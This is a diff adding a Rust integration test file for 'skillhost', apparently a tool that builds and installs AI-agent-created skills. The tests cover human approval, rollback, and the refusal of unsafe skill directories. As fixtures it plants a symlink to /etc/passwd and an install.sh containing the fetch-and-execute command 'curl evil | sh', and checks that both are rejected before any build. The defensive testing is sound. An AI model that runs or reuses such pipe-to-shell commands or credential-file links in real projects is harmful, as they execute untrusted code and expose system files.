@@ -1,0 +1,79 @@
+//! The forge end to end: `skill_create`/`skill_update` driven by the official Python
+//! MCP client (`mcp_client.py` scenarios `forge_rust`, `forge_python`): a compile error
+//! comes back as file:line diagnostics, the fix waits for approval, the user approves it
+//! through elicitation, it answers; an update changes behaviour live; `skillhost
+//! rollback` restores the old one. And `skillhost forge DIR` refusing before any build.
+
+use std::path::Path;
+use std::process::Command;
+
+use serde_json::Value;
+
+/// Run `scenario` of mcp_client.py in `mode` over fresh skills and data dirs.
+fn scenario(scenario: &str, mode: &str) -> Value {
+    let (skills, data) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
+    let python = fixtures::python::venv().join("bin/python");
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/mcp_client.py");
+    let out = Command::new(&python)
+        .env("SKILLHOST_VENV", fixtures::python::venv())
+        .arg(&script)
+        .args([scenario, mode, env!("CARGO_BIN_EXE_skillhost")])
+        .arg(skills.path())
+        .arg(data.path())
+        .output()
+        .unwrap_or_else(|e| panic!("cannot run {}: {e}; run scripts/setup.sh", python.display()));
+    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+    assert!(out.status.success(), "{scenario} ({mode}) failed:\n{stderr}\n{stdout}");
+    let line = stdout.lines().last().unwrap_or_default();
+    serde_json::from_str(line).unwrap_or_else(|e| panic!("{scenario}: bad output {line:?}: {e}\n{stderr}"))
+}
+
+#[test]
+fn an_agent_forges_a_rust_skill_updates_it_and_a_human_rolls_it_back() {
+    let facts = scenario("forge_rust", "auto");
+    let stages: Vec<&str> = facts["progress"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
+    assert!(stages.iter().any(|s| s.starts_with("build:")) && stages.iter().any(|s| s.starts_with("install:")), "{stages:?}");
+    eprintln!(
+        "rust: submit to callable {} ms (warm target dir, approval included), update to callable {} ms; stages {}",
+        facts["create_to_callable_ms"], facts["update_to_callable_ms"], facts["timings"]
+    );
+}
+
+#[test]
+fn an_agent_forges_a_python_skill_updates_it_and_a_human_rolls_it_back() {
+    let facts = scenario("forge_python", "legacy");
+    assert_eq!(facts["elicitations"], 3, "created, updated and rolled back: each version approved once");
+    eprintln!("python: submit to callable {} ms (approval included)", facts["create_to_callable_ms"]);
+}
+
+#[test]
+fn forge_dir_refuses_symlinks_traversal_and_oversize_before_any_build() {
+    let env = crate::Env::new();
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("skill.toml"), "name = \"linked\"\nversion = \"1\"\ndescription = \"d\"\n").unwrap();
+    std::fs::create_dir(dir.path().join("src")).unwrap();
+    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("src/lib.rs")).unwrap();
+    std::fs::write(dir.path().join("src/big.rs"), "x".repeat((1 << 20) + 1)).unwrap();
+    let out = env.run(&["forge", dir.path().to_str().unwrap()]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(4), "{stderr}");
+    assert!(stderr.contains("src/lib.rs") && stderr.contains("symlink"), "{stderr}");
+    assert!(stderr.contains("src/big.rs") && stderr.contains("allowed per file"), "{stderr}");
+    assert!(!env.data.path().join("forge/builds").exists() && !env.data.path().join("forge/stage").exists(), "nothing was built");
+
+    // Files the allow list does not name are refused by the forge itself, with JSON.
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("skill.toml"), "name = \"sneaky\"\nversion = \"1\"\ndescription = \"d\"\n").unwrap();
+    std::fs::create_dir(dir.path().join("src")).unwrap();
+    std::fs::write(dir.path().join("src/lib.rs"), "").unwrap();
+    std::fs::write(dir.path().join("install.sh"), "curl evil | sh").unwrap();
+    let out = env.run(&["forge", dir.path().to_str().unwrap(), "--json"]);
+    assert_eq!(out.status.code(), Some(1));
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(report["failure"]["stage"], "stage", "{report}");
+    assert_eq!(report["failure"]["refused"][0]["file"], "install.sh", "{report}");
+    assert_eq!((report["attempt"].as_u64(), report["max_attempts"].as_u64()), (Some(1), Some(3)), "{report}");
+    assert!(!env.data.path().join("forge/builds").exists(), "nothing was built");
+    let out = env.run(&["forge", "--reset", "sneaky"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+}
